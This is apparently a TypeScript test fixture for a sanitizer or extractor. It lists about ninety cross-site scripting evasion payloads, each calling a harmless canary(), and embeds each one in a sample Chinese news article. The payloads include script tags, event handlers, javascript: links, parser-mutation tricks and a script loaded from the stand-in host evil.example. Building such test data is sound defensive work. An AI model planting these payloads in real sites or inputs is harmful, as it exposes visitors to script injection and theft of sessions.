// Markup that tries to run `canary()`: own cases after the ideas that OWASP's filter-evasion sheet and html5sec collect. Data, no machinery.

export interface XssCase {
  name: string;
  /** Stands between paragraphs of an article. */
  html: string;
}

const tab = "\t";
const nul = "\0";

export const xssCases: readonly XssCase[] = [
  // Elements that run by themselves.
  { name: "plain script", html: "<script>canary()</script>" },
  { name: "script in capitals", html: "<SCRIPT>canary()</SCRIPT>" },
  { name: "script with a slash for a space", html: "<script/x>canary()</script>" },
  { name: "script from elsewhere", html: '<script src="//evil.example/x.js"></script>' },
  { name: "script around a script", html: "<scr<script>ipt>canary()</scr</script>ipt>" },
  { name: "two brackets before it", html: "<<script>canary();//<</script>" },
  { name: "script in a comment that ends early", html: "<!--><script>canary()</script>-->" },
  { name: "script in a comment with a bang", html: "<!-- --!><script>canary()</script> -->" },
  { name: "script in a conditional comment", html: "<!--[if gte IE 4]><script>canary()</script><![endif]-->" },
  { name: "script of type module", html: '<script type="module">canary()</script>' },
  { name: "script in a CDATA section", html: "<![CDATA[<script>canary()</script>]]>" },
  { name: "script after a NUL", html: `<scr${nul}ipt>canary()</scr${nul}ipt>` },
  { name: "script behind a processing instruction", html: "<?xml ><script>canary()</script>?>" },
  // Event handlers.
  { name: "picture that fails", html: '<img src="x" onerror="canary()">' },
  { name: "picture without quotes", html: "<img src=x onerror=canary()>" },
  { name: "picture with slashes for spaces", html: "<img/src=x/onerror=canary()>" },
  { name: "handler in mixed case", html: '<img src=x oNeRrOr="canary()">' },
  { name: "handler in references", html: '<img src=x onerror="&#99;&#97;&#110;&#97;&#114;&#121;&#40;&#41;">' },
  { name: "handler behind a line feed", html: "<img src=x\nonerror\n=\ncanary()>" },
  { name: "handler after an open quote", html: '<img """><img src=x onerror=canary()>' },
  { name: "handler in a backtick", html: "<img src=`x`onerror=canary()>" },
  { name: "handler in a lazy picture", html: '<img data-src="x&quot; onerror=&quot;canary()" src="data:,">' },
  { name: "handler in an alternative text", html: '<img src="x" alt="&quot;><img src=x onerror=canary()>">' },
  {
    name: "handler in a caption",
    html: "<figure><img src=x><figcaption><b onclick=canary()>图</b></figcaption></figure>",
  },
  { name: "video that fails", html: '<video><source onerror="canary()"></video>' },
  { name: "video with a handler", html: "<video src=x onerror=canary()></video>" },
  { name: "audio with a handler", html: "<audio src=x onerror=canary()></audio>" },
  { name: "details that open", html: "<details open ontoggle=canary()>更多</details>" },
  { name: "input with focus", html: "<input autofocus onfocus=canary()>" },
  { name: "select with focus", html: "<select autofocus onfocus=canary()></select>" },
  { name: "marquee", html: "<marquee onstart=canary()>走</marquee>" },
  { name: "body in the middle", html: "<body onload=canary()>" },
  {
    name: "animation event",
    html: "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=canary()>动</p>",
  },
  { name: "hover over text", html: '<p onmouseover="canary()">把鼠标放在这里，看看会发生什么。</p>' },
  { name: "click on a table", html: "<table><tr><td onclick=canary()>一格文字，点一下试试看。</td></tr></table>" },
  { name: "editable with focus", html: "<div contenteditable tabindex=1 autofocus onfocus=canary()>写</div>" },
  { name: "popover", html: "<button popovertarget=z>开</button><div id=z popover onbeforetoggle=canary()>z</div>" },
  { name: "attribute joined to another", html: '<a href="http://a.example/"onclick="canary()">没有空格的链接</a>' },
  // Addresses that run.
  { name: "javascript link", html: '<a href="javascript:canary()">一个链接</a>' },
  { name: "javascript link in mixed case", html: '<a href="JaVaScRiPt:canary()">一个链接</a>' },
  { name: "javascript link with a tab", html: `<a href="jav${tab}ascript:canary()">一个链接</a>` },
  { name: "javascript link with a line feed", html: '<a href="java&#10;script:canary()">一个链接</a>' },
  { name: "javascript link after control characters", html: '<a href="&#1;&#14; javascript:canary()">一个链接</a>' },
  { name: "references without semicolons", html: '<a href="&#0000106avascript&#58canary()">一个链接</a>' },
  { name: "colon by its name", html: '<a href="javascript&colon;canary()">一个链接</a>' },
  { name: "javascript link with a NUL", html: `<a href="java${nul}script:canary()">一个链接</a>` },
  { name: "javascript link that looks like http", html: '<a href="javascript://a.example/%0Acanary()">一个链接</a>' },
  { name: "javascript against the base", html: '<base href="javascript:/"><a href="canary()">一个链接</a>' },
  { name: "vbscript link", html: '<a href="vbscript:canary()">一个链接</a>' },
  { name: "data link", html: '<a href="data:text/html,<script>opener.canary()</script>">一个链接</a>' },
  { name: "javascript picture", html: '<img src="javascript:canary()">' },
  {
    name: "javascript poster",
    html: '<video poster="javascript:canary()" src="javascript:canary()" controls></video>',
  },
  { name: "javascript in a srcset", html: '<img srcset="javascript:canary() 2x, x 1x">' },
  { name: "javascript in a lazy picture", html: '<img src="x" data-original="javascript:canary()">' },
  { name: "javascript attachment", html: '<a href="javascript:canary()//a.pdf">附件.pdf</a>' },
  { name: "form that runs", html: '<form action="javascript:canary()"><button>提交</button></form>' },
  {
    name: "button with an action",
    html: '<form id=f></form><button form=f formaction="javascript:canary()">按</button>',
  },
  { name: "isindex", html: "<isindex type=image src=1 onerror=canary()>" },
  { name: "meta refresh", html: '<meta http-equiv="refresh" content="0;url=javascript:canary()">' },
  {
    name: "stylesheet",
    html: '<link rel=stylesheet href="javascript:canary()"><style>@import"javascript:canary()"</style>',
  },
  { name: "expression in a style", html: '<p style="width:expression(canary())">有样式的一段文字。</p>' },
  { name: "address in a style", html: '<p style="background:url(javascript:canary())">有背景的一段文字。</p>' },
  // Frames and plug-ins.
  { name: "javascript frame", html: '<iframe src="javascript:parent.canary()"></iframe>' },
  { name: "frame with its document", html: '<iframe srcdoc="<script>parent.canary()</script>"></iframe>' },
  { name: "frameset", html: '<frameset onload=canary()><frame src="javascript:parent.canary()"></frameset>' },
  { name: "object", html: '<object data="javascript:canary()" onerror=canary()></object>' },
  { name: "embed", html: '<embed src="javascript:canary()" onload=canary()>' },
  { name: "applet", html: "<applet onerror=canary()><param name=code value=x></applet>" },
  // Foreign content, and text that becomes markup when it is read again.
  { name: "svg that loads", html: "<svg onload=canary()></svg>" },
  { name: "svg script", html: "<svg><script>canary()</script></svg>" },
  { name: "svg script in references", html: "<svg><script>&#99;anary()</script></svg>" },
  {
    name: "svg animation of a link",
    html: '<svg><a><animate attributeName="href" values="javascript:canary()"/><text y="20">图</text></a></svg>',
  },
  { name: "svg foreign object", html: "<svg><foreignObject><img src=x onerror=canary()></foreignObject></svg>" },
  {
    name: "svg style that closes itself",
    html: '<svg><style><img title="</style><img src=x onerror=canary()>"></style></svg>',
  },
  {
    name: "mathml link",
    html: '<math><mtext href="javascript:canary()" xlink:href="javascript:canary()">点</mtext></math>',
  },
  {
    name: "mathml glyph",
    html: "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=canary()&gt;'></table></math>",
  },
  {
    name: "form in a form",
    html: "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()></style></form>",
  },
  { name: "noscript", html: '<noscript><p title="</noscript><img src=x onerror=canary()>"></noscript>' },
  { name: "title that closes itself", html: "<title><img title='</title><img src=x onerror=canary()>'></title>" },
  {
    name: "textarea that closes itself",
    html: "<textarea><img title='</textarea><img src=x onerror=canary()>'></textarea>",
  },
  { name: "xmp that closes itself", html: "<xmp><p title='</xmp><img src=x onerror=canary()>'></xmp>" },
  { name: "noembed", html: "<noembed><img title='</noembed><img src=x onerror=canary()>'></noembed>" },
  { name: "template", html: "<template><img src=x onerror=canary()></template>" },
  {
    name: "declarative shadow root",
    html: "<div><template shadowrootmode=open><img src=x onerror=canary()></template></div>",
  },
  { name: "escaped markup", html: "<p>原文：&lt;img src=x onerror=canary()&gt; 只是文字，请继续往下看。</p>" },
  {
    name: "twice escaped markup",
    html: "<p>原文：&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt; 也只是文字。</p>",
  },
  { name: "markup in a code block", html: "<pre><code>&lt;script&gt;canary()&lt;/script&gt;</code></pre>" },
  {
    name: "clobbered names",
    html: '<form id="document"><input name="body"><img name="canary" src=x onerror=canary()></form>',
  },
];

/** An article's page with a case in its middle. */
export function pageWith({ html }: XssCase): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>河上来了一条纸船</title></head><body><h1>河上来了一条纸船</h1>
<p>发布时间：2020-09-04 10:05　浏览：12</p><div class="content">
<p>今天早上，一条很大的纸船从上游漂来，船上没有人，只有一封没有写字的信，镇上的人都来看。</p>
${html}
<p>镇上的人把信晾在桥头，等它干了再看，因为谁也不着急，而且天气很好，风也不大。</p>
<p>到了傍晚，信干了，上面还是没有字，大家很满意地回家吃饭去了。</p></div></body></html>`;
}

/** What is known of such a page. */
export const xssContext = {
  url: "http://www.a.example/News/7.aspx",
  timeZone: "Asia/Shanghai",
  language: "zh-CN",
  fetchedAt: Date.parse("2020-09-05T08:00:00+08:00"),
};
